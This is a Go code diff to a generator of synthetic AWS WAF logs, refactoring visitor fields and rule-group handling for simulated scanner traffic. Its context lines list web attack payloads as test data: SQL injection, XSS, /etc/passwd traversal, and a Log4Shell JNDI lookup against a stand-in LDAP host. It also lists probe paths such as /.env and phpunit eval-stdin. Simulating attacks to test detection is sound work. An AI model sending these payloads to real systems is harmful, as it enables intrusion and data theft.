@@ -16,8 +16,8 @@ const webRecordsPerFile = 800
 // visitor is a client and what all its requests share.
 type visitor struct {
 	ip, country, agent string
-	ja3, ja4, cookie   string
-	asker              bool // a scanner
+	ja4, cookie        string
+	scanner            bool
 }
 
 var (
@@ -35,7 +35,12 @@ var (
 	pages    = []string{"/", "/api/v1/cart", "/api/v1/products", "/search", "/product/%d", "/static/js/app.%d.js", "/api/v1/session", "/img/%d.webp", "/checkout", "/account/orders", "/api/v2/recommendations", "/health"}
 	attacks  = []string{"/.env", "/wp-login.php", "/phpinfo.php", "/.git/config", "/search", "/admin/config.php", "/actuator/env", "/cgi-bin/luci", "/api/v1/products", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"}
 	payloads = []string{"id=1%27%20OR%20%271%27=%271", "q=%3Cscript%3Ealert(1)%3C/script%3E", "file=../../../../etc/passwd", "id=1 UNION SELECT username,password FROM users--", "cmd=%24%7Bjndi:ldap://198.51.100.9/a%7D", ""}
-	managed  = []string{"AWS#AWSManagedRulesAmazonIpReputationList", "AWS#AWSManagedRulesCommonRuleSet", "AWS#AWSManagedRulesKnownBadInputsRuleSet", "AWS#AWSManagedRulesSQLiRuleSet#Version_2.0"}
+)
+
+const (
+	ipList    = "AWS#AWSManagedRulesAmazonIpReputationList"
+	coreRules = "AWS#AWSManagedRulesCommonRuleSet"
+	sqliRules = "AWS#AWSManagedRulesSQLiRuleSet#Version_2.0"
 )
 
 // WAF writes 240,000 × scale records of two web ACLs, a file each five minutes.
@@ -54,19 +59,19 @@ func WAF(dir string, scale float64) (logfile.Totals, error) {
 
 func newVisitor(r *rand.Rand) visitor {
 	v := visitor{ip: publicNets[r.IntN(3)] + strconv.Itoa(1+r.IntN(254)), country: countries[skew(r, len(countries))],
-		agent: browsers[skew(r, len(browsers))], ja3: record.Hex(r, 32), ja4: "t13d1516h2_" + record.Hex(r, 12) + "_" + record.Hex(r, 12)}
+		agent: browsers[skew(r, len(browsers))], ja4: "t13d1516h2_" + record.Hex(r, 12) + "_" + record.Hex(r, 12)}
 	if r.IntN(20) == 0 {
 		v.ip = "2001:db8:" + record.Hex(r, 4) + "::" + record.Hex(r, 3)
 	}
 	if r.IntN(14) == 0 {
-		v.asker, v.agent = true, scanners[r.IntN(len(scanners))]
+		v.scanner, v.agent = true, scanners[r.IntN(len(scanners))]
 	}
 	v.cookie = "sid=" + record.Base62(r, 32) + "; aws-waf-token=" + record.UUID(r) + ":" + record.Base64(r, 40)
 	return v
 }
 
 func appendWeb(b []byte, r *rand.Rand, account, region, acl string, from time.Time, n int) []byte {
-	visitors := make([]visitor, 150)
+	visitors := make([]visitor, 400)
 	for i := range visitors {
 		visitors[i] = newVisitor(r)
 	}
@@ -75,13 +80,13 @@ func appendWeb(b []byte, r *rand.Rand, account, region, acl string, from time.Ti
 	for i := range n {
 		v := &visitors[skew(r, len(visitors))]
 		at := from.Add(time.Duration(i*300_000/n+r.IntN(200)) * time.Millisecond)
-		w := record.Web{Time: at, WebACL: id, Balancer: balancer, Client: v.ip, Country: v.country, JA3: v.ja3, JA4: v.ja4,
+		w := record.Web{Time: at, WebACL: id, Balancer: balancer, Client: v.ip, Country: v.country, JA4: v.ja4,
 			RequestID: fmt.Sprintf("1-%08x-%s", at.Unix(), record.Hex(r, 24)),
 			Labels:    []string{"awswaf:clientip:geo:country:" + v.country, "awswaf:clientip:geo:region:" + v.country + "-" + []string{"VA", "CA", "BE", "NW"}[r.IntN(4)]}}
-		for _, g := range managed {
-			w.Groups = append(w.Groups, record.RuleGroup{ID: g})
+		if acl == "shop-web" {
+			w.Groups = append(w.Groups, record.RuleGroup{ID: ipList}, record.RuleGroup{ID: sqliRules})
 		}
-		if v.asker {
+		if v.scanner {
 			attack(&w, r, v)
 		} else {
 			visit(&w, r, v)
@@ -99,8 +104,7 @@ func visit(w *record.Web, r *rand.Rand, v *visitor) {
 	if w.URI == "/search" {
 		w.Args = "q=" + functionNames[r.IntN(len(functionNames))] + "&page=" + strconv.Itoa(r.IntN(9))
 	}
-	w.Headers = [][2]string{{"host", "shop.example.com"}, {"user-agent", v.agent}, {"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
-		{"accept-language", "en-US,en;q=0.9"}, {"accept-encoding", "gzip, deflate, br, zstd"}, {"referer", "https://shop.example.com/"}, {"cookie", v.cookie}}
+	w.Headers = [][2]string{{"host", "shop.example.com"}, {"user-agent", v.agent}, {"accept", "*/*"}, {"accept-encoding", "gzip, br"}, {"cookie", v.cookie}}
 	if r.IntN(6) == 0 {
 		w.Method, w.BodySize = "POST", 20+r.IntN(4000)
 		w.Headers = append(w.Headers, [2]string{"content-type", "application/json"}, [2]string{"content-length", strconv.Itoa(w.BodySize)})
@@ -122,21 +126,32 @@ func attack(w *record.Web, r *rand.Rand, v *visitor) {
 	switch x := r.IntN(10); {
 	case x < 2:
 		w.Rule, w.RuleType, w.Action = "block-bad-ips", "MANAGED_RULE_GROUP", "BLOCK"
-		w.Groups[0].Terminating = &record.RuleHit{Rule: "AWSManagedIPReputationList", Action: "BLOCK"}
+		group(w, ipList).Terminating = &record.RuleHit{Rule: "AWSManagedIPReputationList", Action: "BLOCK"}
 		w.Labels = append(w.Labels, "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList")
-		w.Groups = w.Groups[:1]
 	case x < 5:
 		m := []record.Match{{Condition: "SQL_INJECTION", Sensitivity: "HIGH", Location: "ALL_QUERY_ARGS", Data: []string{"1", "UNION", "SELECT"}, Field: "id"}}
 		w.Rule, w.RuleType, w.Action, w.Matches = "sqli", "MANAGED_RULE_GROUP", "BLOCK", m
-		w.Groups[3].Terminating = &record.RuleHit{Rule: "SQLi_QUERYARGUMENTS", Action: "BLOCK", Matches: m}
+		group(w, sqliRules).Terminating = &record.RuleHit{Rule: "SQLi_QUERYARGUMENTS", Action: "BLOCK", Matches: m}
 		w.Labels = append(w.Labels, "awswaf:managed:aws:sql-database:SQLi_QueryArguments")
 	case x < 7:
-		w.Groups[1].Counted = []record.RuleHit{{Rule: "GenericLFI_QUERYARGUMENTS", Action: "COUNT", Overridden: "BLOCK"}}
-		w.Groups[1].Excluded = []string{"SizeRestrictions_BODY"}
+		g := group(w, coreRules)
+		g.Counted = []record.RuleHit{{Rule: "GenericLFI_QUERYARGUMENTS", Action: "COUNT", Overridden: "BLOCK"}}
+		g.Excluded = []string{"SizeRestrictions_BODY"}
 		w.Labels = append(w.Labels, "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments")
 	case x < 8:
 		w.Rule, w.RuleType, w.Action, w.SentStatus = "rate-limit", "RATE_BASED", "BLOCK", 429
 		w.Rates = []record.RateRule{{ID: w.WebACL + "/rule/rate-limit", Name: "rate-limit", Limit: v.ip, Max: 2000}}
 		w.Groups = nil
 	}
+}
+
+// group is the request's entry of a rule group, added where it is not there yet.
+func group(w *record.Web, id string) *record.RuleGroup {
+	for i := range w.Groups {
+		if w.Groups[i].ID == id {
+			return &w.Groups[i]
+		}
+	}
+	w.Groups = append(w.Groups, record.RuleGroup{ID: id})
+	return &w.Groups[len(w.Groups)-1]
 }
